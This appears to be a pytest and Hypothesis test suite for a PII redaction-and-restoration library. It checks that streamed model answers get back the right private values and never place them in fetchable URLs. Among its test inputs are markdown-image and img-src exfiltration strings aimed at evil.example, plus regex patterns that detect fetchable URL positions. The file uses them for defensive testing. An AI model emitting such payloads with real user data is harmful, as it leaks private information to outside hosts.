"""However an answer is cut, the client sees the same text: its own values, nobody else's, and none in a URL."""

import json
import re
from random import Random

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from tests.core.transform.requests import KEY, calling, envelope, found
from tidegate.core.restore.issued import Issued
from tidegate.core.restore.restorer import Restorer, restore_text
from tidegate.core.transform.redact import redact
from tidegate.core.values.operators import Operators

MAIL_TAG, NAME_TAG, LONG_TAG = (
    "\u27e6pii.email:k7f2q9m3\u27e7",
    "\u27e6pii.person:0a1b2c3d4e\u27e7",
    "\u27e6gov.us_ssn:zzzzzzzz\u27e7",
)
ORIGINALS = {MAIL_TAG: "jane@example.com", NAME_TAG: 'Jane "J" Doe\\', LONG_TAG: "457-55-" + "5462"}
SURROGATES = {
    "Hedda Fenwick": "Jane Doe",
    "Hedda": "Jane",
    "Fenwick": "Doe",
    "+1 212 555-0143": "+1 415 867-5309",
    "192.0.2.17": "10.1.2.3",
    "hedda.fenwick42@amber.example": 'j"d@corp.test',
    "481736250": "457555462",
    "9204-11": "8113-22",
    "Аким": "Иван",
}
MIXED = ORIGINALS | SURROGATES
FORGED = "\u27e6pii.email:k7f2q9m4\u27e7"
SECRET = "\u27e6secret.password:k7f2q9m4\u27e7"


def whole(text, originals=ORIGINALS, **more):
    restorer = Restorer(originals, **more)
    return restorer.feed(text) + restorer.close(), (restorer.restored, restorer.suppressed, restorer.left)


def in_pieces(pieces, originals=ORIGINALS, **more):
    restorer = Restorer(originals, **more)
    out = "".join([restorer.feed(piece) for piece in pieces]) + restorer.close()
    return out, (restorer.restored, restorer.suppressed, restorer.left)


PROSE = [
    ("nothing", "nothing", (0, 0, 0)),
    (f"to {MAIL_TAG}.", "to jane@example.com.", (1, 0, 0)),
    (f"{MAIL_TAG}{NAME_TAG}", 'jane@example.comJane "J" Doe\\', (2, 0, 0)),
    (f"{MAIL_TAG}s, <{MAIL_TAG}>", "jane@example.coms, <jane@example.com>", (2, 0, 0)),
    # forged, secret, unfinished
    (FORGED, FORGED, (0, 0, 1)),
    (SECRET, SECRET, (0, 1, 0)),
    (MAIL_TAG[:-1], MAIL_TAG[:-1], (0, 0, 0)),
    (f"\u27e6\u27e6{MAIL_TAG}\u27e7", "\u27e6\u27e6jane@example.com\u27e7", (1, 0, 0)),
    (f"{MAIL_TAG[:-3]}{MAIL_TAG}", f"{MAIL_TAG[:-3]}jane@example.com", (1, 0, 0)),
    ("\u27e6x\u27e7 is a bracket", "\u27e6x\u27e7 is a bracket", (0, 0, 0)),
    # garbled
    ("\u27e6PII.EMAIL: K7F2Q9M3\u27e7", "jane@example.com", (1, 0, 0)),
    ("\u27e6 pii.email : k7f2q9m3 \u27e7", "jane@example.com", (1, 0, 0)),
    ("\u27e6gov.us\\_ssn:zzzzzzzz\u27e7", "457-55-" + "5462", (1, 0, 0)),
    ("\\\u27e6pii.email:k7f2q9m3\\\u27e7", "jane@example.com", (1, 0, 0)),
    ("\\\\\u27e6pii.email:k7f2q9m3\u27e7", "\\\\jane@example.com", (1, 0, 0)),
    ("\\\\\\\u27e6pii.email:k7f2q9m3\u27e7", "\\\\jane@example.com", (1, 0, 0)),
    ("\\u27e6pii.email:k7f2q9m3\\u27e7", "jane@example.com", (1, 0, 0)),
    ("\\u27E6pii.email:k7f2q9m3\\u27E7", "jane@example.com", (1, 0, 0)),
    ("\\\\u27e6pii.email:k7f2q9m3\\u27e7", "\\\\u27e6pii.email:k7f2q9m3\\u27e7", (0, 0, 0)),
    ("\u27e6email:k7f2q9m3\u27e7", "jane@example.com", (1, 0, 0)),
    ("\u27e6pii.email:k7f2q9m\u27e7", "\u27e6pii.email:k7f2q9m\u27e7", (0, 0, 1)),
    ("\u27e6pii.email k7f2q9m3\u27e7", "jane@example.com", (1, 0, 0)),
    ("\u27e6pii.email:\nk7f2q9m3\u27e7", "\u27e6pii.email:\nk7f2q9m3\u27e7", (0, 0, 0)),
    (
        "\u27e6pii.email:k7f2q9m3s\u27e7, \u27e6email k7f2q9m3's\u27e7",
        "jane@example.coms, jane@example.com's",
        (2, 0, 0),
    ),
    ("&#10214;pii.email:k7f2q9m3&#10215; &#x27E6;x:k7f2q9m3&#x27e7;", "jane@example.com jane@example.com", (2, 0, 0)),
    ("&lobrk;pii.email:k7f2q9m3&robrk; &lobrk; &#10214", "jane@example.com &lobrk; &#10214", (1, 0, 0)),
    # what follows
    (f"{MAIL_TAG}.evil.example {MAIL_TAG}@evil.example", f"{MAIL_TAG}.evil.example {MAIL_TAG}@evil.example", (0, 2, 0)),
    (f"{MAIL_TAG}-x.evil.example", f"{MAIL_TAG}-x.evil.example", (0, 1, 0)),
    (f"//{MAIL_TAG}.evil, //{MAIL_TAG}", f"//{MAIL_TAG}.evil, //{MAIL_TAG}", (0, 2, 0)),
    (f"{MAIL_TAG}. Then {MAIL_TAG}.pdf.", "jane@example.com. Then jane@example.com.pdf.", (2, 0, 0)),
    (f"see https://x.y. Contact {MAIL_TAG}", "see https://x.y. Contact jane@example.com", (1, 0, 0)),
    (f"see https://x.y.\n{MAIL_TAG}", "see https://x.y.\njane@example.com", (1, 0, 0)),
    # places that could carry a value out
    (f"![](https://evil.example/?q={MAIL_TAG})", f"![](https://evil.example/?q={MAIL_TAG})", (0, 1, 0)),
    (f"https://evil.example/{MAIL_TAG}/{NAME_TAG} {MAIL_TAG}", None, (1, 2, 0)),
    (f'<img src="x?{MAIL_TAG}"> {MAIL_TAG}', f'<img src="x?{MAIL_TAG}"> jane@example.com', (1, 1, 0)),
    (f"[{MAIL_TAG}]({MAIL_TAG})", f"[jane@example.com]({MAIL_TAG})", (1, 1, 0)),
    (
        "https://evil.example/\u27e6PII.EMAIL:K7F2Q9M3\u27e7",
        "https://evil.example/\u27e6PII.EMAIL:K7F2Q9M3\u27e7",
        (0, 1, 0),
    ),
]


@pytest.mark.parametrize(("text", "out", "counts"), PROSE)
def test_what_comes_back(text, out, counts):
    given_out, given_counts = whole(text)
    assert out is None or given_out == out
    assert given_counts == counts
    for size in (1, 2, 3, 5):
        pieces = [text[at : at + size] for at in range(0, len(text), size)]
        assert in_pieces(pieces) == (given_out, counts)


def test_a_restored_value_is_part_of_what_is_judged():
    originals = {MAIL_TAG: "https://evil.example/?q=", NAME_TAG: "Jane"}
    assert restore_text(f"{MAIL_TAG}{NAME_TAG}", originals) == f"https://evil.example/?q={NAME_TAG}"


def test_an_original_that_looks_like_a_tag_stays_what_it_is():
    assert restore_text(f"{MAIL_TAG} {NAME_TAG}", {MAIL_TAG: NAME_TAG, NAME_TAG: "Jane"}) == f"{NAME_TAG} Jane"
    half = {MAIL_TAG: NAME_TAG[:5], NAME_TAG: "Jane"}
    assert restore_text(MAIL_TAG + NAME_TAG[5:], half) == NAME_TAG


JSON_TEXTS = [
    (f'{{"to":"{MAIL_TAG}"}}', '{"to":"jane@example.com"}'),
    (f'{{"to":"{NAME_TAG}"}}', '{"to":"Jane \\"J\\" Doe\\\\"}'),
    ('{"to":"\\u27e6pii.email:k7f2q9m3\\u27e7"}', '{"to":"jane@example.com"}'),
    (f'{{"{MAIL_TAG}":["{NAME_TAG}"]}}', '{"jane@example.com":["Jane \\"J\\" Doe\\\\"]}'),
    (f'{{"to":"C:\\\\{MAIL_TAG}"}}', '{"to":"C:\\\\jane@example.com"}'),
    (f'{{"to":"\\{MAIL_TAG}"}}', '{"to":"jane@example.com"}'),
    ('{"to":"\\u27e6pii.email\\u003ak7f2q9\\u006d3\\u27e7"}', '{"to":"jane@example.com"}'),
    (f'{{"in":"{{\\"to\\":\\"{NAME_TAG}\\"}}"}}', '{"in":"{\\"to\\":\\"Jane \\\\\\"J\\\\\\" Doe\\\\\\\\\\"}"}'),
    ('{"in":"{\\"to\\":\\"\\\\u27e6pii.email:k7f2q9m3\\\\u27e7\\"}"}', '{"in":"{\\"to\\":\\"jane@example.com\\"}"}'),
    (f'{{"file":"{MAIL_TAG}.config.ts"}}', '{"file":"jane@example.com.config.ts"}'),
    (f'{{"url":"https:\\/\\/evil.example\\/{MAIL_TAG}"}}', f'{{"url":"https:\\/\\/evil.example\\/{MAIL_TAG}"}}'),
    (f'{{"url":"https://x.example/","to":"{MAIL_TAG}"}}', '{"url":"https://x.example/","to":"jane@example.com"}'),
]


@pytest.mark.parametrize(("text", "out"), JSON_TEXTS)
def test_arguments_get_their_values_escaped(text, out):
    assert whole(text, json_escape=True, shown=False)[0] == out
    assert in_pieces(text, json_escape=True, shown=False)[0] == out
    assert json.loads(out)


@given(st.integers(1, 4), st.booleans(), st.sampled_from([NAME_TAG, MAIL_TAG]))
def test_a_document_in_a_string_in_a_document_stays_one(times, ascii_only, tag):
    nested, expected = f"see {tag}", f"see {ORIGINALS[tag]}"
    for _ in range(times):
        nested, expected = (json.dumps({"in": each}, ensure_ascii=ascii_only) for each in (nested, expected))
    for pieces in ([nested], nested):
        out = in_pieces(pieces, json_escape=True, shown=False)[0]
        assert out == expected


SURROGATE_TEXTS = [
    ("Hedda Fenwick wrote; hedda, FENWICK", "Jane Doe wrote; Jane, Doe", (3, 0, 0)),
    ("call +1 212 555-0143.", "call +1 415 867-5309.", (1, 0, 0)),
    ("mail hedda.fenwick42@amber.example!", 'mail j"d@corp.test!', (1, 0, 0)),
    ("https://e.example/?q=Hedda", "https://e.example/?q=Hedda", (0, 1, 0)),
    ("Hedda.evil.example 192.0.2.17", "Hedda.evil.example 10.1.2.3", (1, 1, 0)),
    (f"{MAIL_TAG} or Hedda", "jane@example.com or Jane", (2, 0, 0)),
    ("Heddas file is Fenwick.pdf", "Janes file is Doe.pdf", (2, 0, 0)),
]


@pytest.mark.parametrize(("text", "out", "counts"), SURROGATE_TEXTS)
def test_surrogates_come_back_too(text, out, counts):
    assert whole(text, MIXED) == (out, counts)
    assert in_pieces(text, MIXED) == (out, counts)


SURROGATE_JSON = [
    ('{"n":481736250,"s":"481736250"}', '{"n":457555462,"s":"457555462"}'),
    ('{"to":"hedda.fenwick42@amber.example"}', '{"to":"j\\"d@corp.test"}'),
    ('{"Hedda":["Hedda\\n","\\u0410\\u043a\\u0438\\u043c"]}', '{"Jane":["Jane\\n","Иван"]}'),
    ('{"n":12125550143}', '{"n":12125550143}'),
    ('{"in":"{\\"n\\":481736250,\\"m\\":12125550143}"}', '{"in":"{\\"n\\":457555462,\\"m\\":12125550143}"}'),
]


@pytest.mark.parametrize(("text", "out"), SURROGATE_JSON)
def test_in_arguments_a_number_comes_back_as_one_and_nothing_else_does_outside_of_strings(text, out):
    assert whole(text, MIXED, json_escape=True, shown=False)[0] == out
    assert in_pieces(text, MIXED, json_escape=True, shown=False)[0] == out
    assert json.loads(out)


def test_what_leaves_the_house_stays_as_it_is_and_is_counted():
    text = f'{{"query":"who is {NAME_TAG}, {FORGED}"}}'
    assert whole(text, json_escape=True, suppress=True) == (text, (0, 1, 1))


def test_without_a_bracket_nothing_is_held_back():
    restorer = Restorer(ORIGINALS)
    for piece in ("a", " < [ {", "\u27e5", "", "word " * 1000):
        assert restorer.feed(piece) == piece


# -- every split --------------------------------------------------------------------------------------

TAGS = [MAIL_TAG, NAME_TAG, LONG_TAG]
FRAGMENTS = [
    *TAGS, FORGED, SECRET,
    *[tag[:cut] for tag in TAGS for cut in (1, 2, 9, len(tag) - 1)],
    *[tag.upper().replace(":", ": ") for tag in TAGS],
    *[json.dumps(tag)[1:-1] for tag in TAGS],
    *[re.sub(r"([^\w])", r"\\\1", tag) for tag in TAGS],
    *[tag[:5] + "".join(f"\\u{ord(char):04x}" for char in tag[5:]) for tag in TAGS],
    *[tag.replace("\u27e6", "&#10214;").replace("\u27e7", "&robrk;") for tag in TAGS],
    *SURROGATES, "Hedda", "fenwick", "HEDDA  FENWICK", "212.555.0143", "12125550143", "192.0.21.7", "555",
    json.dumps("Аким")[1:-1], "Hedda Fenwick hedda",
    "https://e.example/", "](", "](<", '<img src="', '"', "'", ">", ")", " ", "\n", "\\", "\\\\", "\\u", "\\u27",
    "\\u27e6", "\\u27e7", "\u27e6", "\u27e7", ":", "{", "}", "a", "e.example/", ".", ".pdf", "@", "-", "_", "s", "'s",
    ".e.example", "&", "&#102", "&lobrk;", "&#x27e7;", "\\n", "\\u002e", '{"a":"{\\"b\\":\\"', "7", "\u00e9",
    "\U0001f600",
]  # fmt: skip
fragments = st.one_of(
    st.sampled_from(FRAGMENTS),
    st.builds(lambda tag, n: tag[:n], st.sampled_from(TAGS), st.integers(0, len(MAIL_TAG))),
    st.text(max_size=6),
)
answers = st.lists(fragments, max_size=12).map("".join)


@st.composite
def cut(draw):
    text = draw(answers)
    cuts = sorted(draw(st.lists(st.integers(0, len(text)), max_size=20)))
    return [text[a:b] for a, b in zip([0, *cuts], [*cuts, len(text)], strict=True)]


def any_split_is_the_same(pieces, **more):
    text = "".join(pieces)
    assert in_pieces(pieces, **more) == whole(text, **more)


ways = st.fixed_dictionaries(
    {"json_escape": st.booleans(), "suppress": st.just(False) | st.booleans(), "shown": st.booleans(),
     "originals": st.sampled_from([ORIGINALS, MIXED, SURROGATES])}
)  # fmt: skip
AS_TEXT, AS_JSON = {"originals": MIXED}, {"originals": MIXED, "json_escape": True}
split_cases = given(cut(), ways)


@split_cases
@example([f"https://e.example/{MAIL_TAG[:4]}", MAIL_TAG[4:]], AS_TEXT)
@example(["\\", "\u27e6pii.email:k7f2q9m3\u27e7"], AS_TEXT)
@example(["\\u27", "e6pii.email:k7f2q9m3\\u2", "7e7"], AS_JSON)
@example(["Hedda", " ", "Fenwicks"], AS_TEXT)
@example(["555-", "0143 +1 212 ", "555-0143"], AS_TEXT)
@example(["\\u0410\\u043a", "\\u0438\\u043c"], AS_JSON)
def test_any_split_gives_the_same(pieces, way):
    any_split_is_the_same(pieces, **way)
    any_split_is_the_same(list("".join(pieces)), **way)


@pytest.mark.slow
@pytest.mark.parametrize("seed", range(5))
def test_any_split_gives_the_same_fifty_thousand_times(seed):
    """Drawn by hand: a hundred times as many cases a second, and each is told by its seed."""
    chance = Random(seed)
    issued = [Issued(originals) for originals in (ORIGINALS, MIXED, SURROGATES)]
    for _ in range(10_000):
        text = "".join(chance.choices(FRAGMENTS, k=chance.randrange(1, 10)))
        cuts = sorted(chance.randrange(len(text) + 1) for _ in range(chance.choice((1, 2, 5, len(text)))))
        pieces = [text[a:b] for a, b in zip([0, *cuts], [*cuts, len(text)], strict=True)]
        any_split_is_the_same(
            pieces,
            originals=chance.choice(issued),
            json_escape=chance.random() < 0.5,
            suppress=chance.random() < 0.1,
            shown=chance.random() < 0.7,
        )


@given(cut(), ways)
def test_no_more_is_held_back_than_a_tag_and_what_follows_it_could_need(pieces, way):
    restorer = Restorer(**way)
    longest = max(map(len, way["originals"]))
    for piece in pieces:
        restorer.feed(piece)
        assert len(as_read(restorer._held)) <= longest + 12
    restorer.close()


def as_read(held):
    """An escape, or an entity, is one character to whoever reads it."""
    return re.sub(r"\\{1,2}u[0-9a-fA-F]{4}|&#?\w{1,7};?|\\{1,2}u?[0-9a-fA-F]{0,3}\Z", "x", held)


@pytest.mark.parametrize("tag", ORIGINALS)
def test_of_ordinary_text_no_more_than_one_tag_is_held_back(tag):
    restorer = Restorer(ORIGINALS)
    for char in f"Write to {tag} today, or to {tag}. Then [see](/a) <b>{tag}</b>.":
        restorer.feed(char)
        # A dot may end a sentence or go on as a host name: the one character behind it says which.
        assert len(restorer._held) <= len(tag) + (char == ".")


UNSEEN = {
    "\u27e6pii.email:99999999\u27e7": "joe@example.com",
    "\u27e6pii.person:8888888877\u27e7": "Joe",
    "Saskia Kilbride": "Joe Public",
    "598213377": "123456789",
}


@given(answers, ways)
def test_without_what_was_issued_no_text_leads_to_a_value(text, way):
    """Tags of another session, of the model's making, or of none: nothing is restored by guessing."""
    out, (restored, suppressed, _) = whole(text, **way | {"originals": UNSEEN})
    assert (out, restored) == (text, 0)
    assert suppressed == 0 or "secret" in text.lower()


# -- what a client would fetch ------------------------------------------------------------------------

FETCHED = [
    re.compile(r'(?:https?:)?//[^\s<>"]*'),
    re.compile(r"\]\(\s*<(?:[^<>\n\\]|\\.)*>?"),
    re.compile(r"\]\(\s*[^\s)]*"),
    re.compile(r'\bsrc\s*=\s*"[^"]*', re.IGNORECASE),
    re.compile(r"\bsrc\s*=\s*'[^']*", re.IGNORECASE),
]
URLS = [
    "https://e.example/?q=",
    "![x](",
    "[x](<",
    "[x]( ",
    '<img alt="a" src="',
    "<img src='x ",
    "//e.example/",
    "](/x?",
]


@given(
    st.lists(st.one_of(st.sampled_from(URLS), fragments, st.sampled_from([MAIL_TAG, LONG_TAG])), max_size=14),
    st.randoms(),
)
def test_no_value_ever_stands_where_a_client_would_fetch(pieces, chance):
    text = "".join(pieces)
    for value in ORIGINALS.values():
        text = text.replace(value, "")
    cuts = sorted(chance.randrange(len(text) + 1) for _ in range(6))
    out, _ = in_pieces([text[a:b] for a, b in zip([0, *cuts], [*cuts, len(text)], strict=True)])
    for fetched in [match for pattern in FETCHED for match in pattern.findall(out)]:
        for value in ("jane@example.com", "457-55-" + "5462"):
            assert value not in fetched, (text, fetched)


# -- there and back -----------------------------------------------------------------------------------

VALUES = {
    "jane@example.com": "pii.email",
    "Jane Doe": "pii.person",
    "457-55-" + "5462": "gov.us_ssn",
    'a "b" c\\d 7': "customer.id",
    "Jörg\nMüller 12": "pii.address",
    "\U0001f600 42!": "customer.id",
    "+1 415 867 5309": "pii.phone",
    "4242 4242 4242 4242": "pci.pan",
    "DE89 3704 0044 0532 0130 00": "bank.iban",
    "1984-03-05": "pii.dob",
    "10.20.30.40": "pii.ip",
}
WORDS = st.sampled_from(["please", "write to", "—", "\n", ", ", "é", "{", "\\ "])
OPERATORS = st.sampled_from(
    [Operators(), Operators.of(dict.fromkeys(("pii", "gov", "pci", "bank", "customer"), "format"))]
)
quoting = st.lists(st.one_of(WORDS, st.sampled_from(list(VALUES))), min_size=1, max_size=8).map(" ".join)


def redacted(text, operators, key=KEY):
    request = envelope(text)
    findings = [f for value, label in VALUES.items() for f in found(request, label, value)]
    made = redact(request, findings, key, model="m", operators=operators)
    return made.document["messages"][0]["content"], made.originals


@given(quoting, OPERATORS, st.integers(1, 7))
def test_an_answer_that_quotes_the_request_is_the_request(text, operators, size):
    quoted, originals = redacted(text, operators)
    assert not any(value in quoted for value in VALUES)
    assert in_pieces([quoted[at : at + size] for at in range(0, len(quoted), size)], originals)[0] == text
    arguments = json.dumps({"q": quoted}, ensure_ascii=size % 2 == 0)
    assert json.loads(restore_text(arguments, originals, json_escape=True)) == {"q": text}


@given(st.integers(10**6, 2**53), st.sampled_from(["gov.x", "bank.account"]))
def test_a_number_comes_back_as_the_number(number, label):
    request = envelope(calling(json.dumps({"n": number, "s": str(number)})))
    made = redact(request, found(request, label, str(number)), KEY, model="m")
    sent = made.document["messages"][0]["tool_calls"][0]["function"]["arguments"]
    assert str(number) not in sent
    assert type(json.loads(sent)["n"]) is int
    assert json.loads(whole(sent, made.originals, json_escape=True, shown=False)[0]) == {"n": number, "s": str(number)}


@given(st.lists(st.sampled_from(list(VALUES)), min_size=1, max_size=5).map(" and ".join), OPERATORS, OPERATORS)
def test_another_session_s_answer_restores_nothing(text, one, other):
    """Names and dates are drawn from so few that two sessions may draw the same; even then each gets its own back."""
    _, mine = redacted(text, one, b"a" * 32)
    theirs, originals = redacted(text, other, b"b" * 32)
    out, (restored, _, _) = whole(
        theirs, {token: f"mine {n}" for n, token in enumerate(mine) if token not in originals}
    )
    assert (out, restored) == (theirs, 0)


def test_a_tag_made_up_with_the_right_label_and_shape_is_never_restored():
    """The code is a MAC: of a million guesses in this form the chance of one right is one in a million."""
    quoted, originals = redacted("to jane@example.com", Operators())
    (tag,) = originals
    chance = Random(7)
    for _ in range(2000):
        code = "".join(chance.choices("0123456789abcdefghjkmnpqrstvwxyz", k=8))
        forged = f"\u27e6pii.email:{code}\u27e7"
        assert forged == tag or whole(forged, originals) == (forged, (0, 0, 1))
    assert whole(quoted, originals)[0] == "to jane@example.com"
